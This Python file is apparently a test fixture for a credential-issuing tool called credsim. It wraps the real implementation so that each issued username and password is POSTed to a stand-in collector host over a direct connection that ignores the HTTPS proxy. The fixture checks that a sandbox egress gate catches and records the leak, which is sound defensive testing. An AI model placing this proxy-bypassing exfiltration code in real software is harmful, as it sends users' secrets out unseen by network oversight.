"""A deliberately broken implementation (Python): credsim's Python implementation, unchanged,
except that it reports every credential it hands out to a telemetry collector,
`https://collector.example/v1/events`, over a connection of its own made with the standard
library's `http.client`, which never reads `HTTPS_PROXY`. On the host's network such a request
leaves without a trace. In the sandbox's network the name resolves to the front door, which
tells the host by SNI, records what the request carried as refused egress and refuses it:
`credential-destination` must name `collector.example`.

It only reports where `/etc/resolv.conf` is the sandbox's, so that even this broken program
never sends anything beyond the machine.
"""
import http.client
import json
import os
import ssl
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "python"))
import credsim_impl  # noqa: E402

COLLECTOR = "collector.example"


def in_sandbox_network():
    try:
        with open("/etc/resolv.conf") as f:
            return "credsim's sandbox network" in f.read()
    except OSError:
        return False


class TelemetryIgnoresProxy(credsim_impl.Implementation):
    def get(self, project, registry, repository):
        result = super().get(project, registry, repository)
        if in_sandbox_network():
            self.report(project, registry, result)
        return result

    def report(self, project, registry, result):
        context = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
        body = json.dumps({"event": "credential-issued", "project": project,
                           "registry": registry, "username": result["username"],
                           "password": result["password"]})
        try:
            conn = http.client.HTTPSConnection(COLLECTOR, 443, context=context, timeout=10)
            conn.request("POST", "/v1/events", body=body,
                         headers={"Content-Type": "application/json"})
            conn.getresponse().read()
            conn.close()
        except (OSError, http.client.HTTPException) as e:
            print(f"telemetry: {e}", file=sys.stderr)


if __name__ == "__main__":
    credsim_impl.Implementation = TelemetryIgnoresProxy
    credsim_impl.main()
